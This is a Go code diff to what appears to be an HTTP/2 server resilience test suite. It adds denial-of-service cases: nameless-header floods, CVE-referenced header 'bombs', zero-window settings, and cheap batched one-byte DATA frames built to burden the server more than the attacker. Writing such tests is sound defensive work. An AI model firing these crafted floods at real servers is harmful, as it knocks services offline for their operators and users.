@@ -2,6 +2,7 @@ package http2flood
 
 import (
 	"bytes"
+	"encoding/binary"
 	"strings"
 
 	"golang.org/x/net/http2"
@@ -54,10 +55,15 @@ var attacks = []attack{
 	}},
 	{"refused streams", calm, 2000, nil, func(p *peer) { p.open("POST", "/slow", false) }},
 	{"malformed requests", calm, 1000, nil, func(p *peer) { p.open("GET", "/", true, "connection", "close") }},
+	{"headers without a name (CVE-2019-9516)", calm, 1000, nil, func(p *peer) {
+		p.headers(append(manyOf(0, 0), make([]byte, 3*200)...), true, true)
+	}},
 	{"CONTINUATION flood (CVE-2024-28182)", calm, 20, openBlock, func(p *peer) {
 		p.note(p.WriteContinuation(p.id, false, bytes.Repeat([]byte{0, 1, 'x', 1, 'x'}, 1000)))
 	}},
 	{"HPACK bomb (CVE-2016-6581)", calm, 20, fillTable, func(p *peer) { p.headers(manyOf(0xbe, 16000), true, true) }},
+	{"HTTP/2 bomb (CVE-2026-49975)", calm, 2000, fillCookie, func(p *peer) { p.headers(manyOf(0xbe, 1900), true, true) }},
+	{"HTTP/2 bomb with as many fields as allowed", calm, 2000, fillCookie, func(p *peer) { p.headers(manyOf(0xbe, 250), true, true) }},
 	{"table size update beyond the limit", http2.ErrCodeCompression, 10, nil, func(p *peer) {
 		p.headers(hpackInt(0x20, 5, 4097), true, true)
 	}},
@@ -86,11 +92,41 @@ var attacks = []attack{
 			p.open("GET", "/big?n=10000", true)
 		}
 	}, func(p *peer) { p.note(p.WriteWindowUpdate(p.id-uint32(p.frames%50)*2, 1)) }},
-	{"tiny DATA that nobody reads", calm, 700_000, func(p *peer) {
+	{"tiny DATA that nobody reads", calm, 700_000, posts("/hang"), tinyData},
+	{"tiny DATA behind a response that waits for a window", calm, 700_000, func(p *peer) {
+		p.note(p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}))
+		posts("/big?n=1000")(p)
+	}, tinyData},
+}
+
+// collectedAttacks are attacks on a server that collects request bodies.
+var collectedAttacks = []attack{
+	{"tiny DATA that is collected", calm, 700_000, posts("/"), tinyData},
+	{"tiny DATA that a handler collects", calm, 700_000, posts("/body", "expect", "100-continue"), tinyData},
+	{"empty DATA", calm, 300, posts("/"), func(p *peer) { p.note(p.WriteData(p.id, false, nil)) }},
+}
+
+// posts returns a function that begins 90 requests with a body.
+func posts(path string, fields ...string) func(*peer) {
+	return func(p *peer) {
 		for range 90 {
-			p.open("POST", "/hang", false)
+			p.open("POST", path, false, fields...)
 		}
-	}, func(p *peer) { p.note(p.WriteData(p.id-uint32(p.frames%90)*2, false, []byte("x"))) }},
+	}
+}
+
+// tinyData sends a byte of each of the bodies. The frames are the same each time, so that the attacker takes less of the
+// processor than the server.
+func tinyData(p *peer) {
+	if p.batch == nil {
+		for i := range uint32(90) {
+			p.batch = append(p.batch, 0, 0, 1, byte(http2.FrameData), 0)
+			p.batch = append(binary.BigEndian.AppendUint32(p.batch, p.id-2*i), 'x')
+		}
+	}
+	_, err := p.out.Write(p.batch)
+	p.note(err)
+	p.frames += 89
 }
 
 // afterRequest returns the frames of a request that takes a while, and of an error on its stream.
@@ -108,6 +144,12 @@ func openBlock(p *peer) { p.headers(p.encode("GET", "/"), true, false) }
 
 // fillTable fills the table of the server's decoder with one large field.
 func fillTable(p *peer) { p.open("GET", "/", true, "x", strings.Repeat("x", 4000)) }
+
+// fillCookie puts a small cookie into the table of the server's decoder, and opens no window for responses.
+func fillCookie(p *peer) {
+	p.note(p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}))
+	p.open("GET", "/", true, "cookie", "a=b")
+}
 
 // manyOf returns the head of a request with a byte n times at its end.
 func manyOf(b byte, n int) []byte {
